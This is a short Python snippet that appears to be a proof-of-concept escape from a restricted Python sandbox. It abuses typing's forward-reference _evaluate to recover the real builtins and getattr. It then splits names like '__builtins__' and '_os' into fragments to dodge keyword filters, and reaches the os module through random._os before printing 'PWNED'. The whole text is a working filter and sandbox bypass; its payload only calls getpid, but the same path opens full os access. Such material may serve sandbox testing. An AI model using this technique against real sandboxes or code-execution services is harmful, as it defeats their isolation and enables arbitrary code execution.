# reflect: operator.attrgetter fetched by the real getattr, then called under another name
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import operator, random
ag = ga(operator, "attr" + "getter")
print(M, ag("_o" + "s")(random).getpid())
